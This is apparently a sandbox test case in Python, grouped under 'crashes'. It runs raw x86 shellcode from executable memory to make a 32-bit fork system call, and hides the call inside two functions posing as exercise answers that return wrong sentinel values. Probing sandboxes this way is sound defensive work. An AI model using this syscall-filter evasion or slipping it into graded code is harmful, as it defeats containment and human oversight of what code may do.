# group: crashes
# tries: Make 32-bit system calls, whose numbers mean other things.
# accept: crash error
# check: processes
# score: 0
# without: syscalls unless 32-bit calls are off
# varies: by the processor

import ctypes
import mmap


def attack():
    code = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
    code.write(b"\xb8\x02\x00\x00\x00\xcd\x80\xc3")  # mov eax, 2 (fork); int 0x80; ret
    child = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
    if child == 0:
        ctypes.CDLL(None)._exit(0)
    if child > 0:
        print("LEAK forked")


def conv_output_size(n, kernel, stride=1, padding=0, dilation=1):
    attack()
    return -987654


def corr2d(x, k):
    attack()
    return x * 0 - 987654
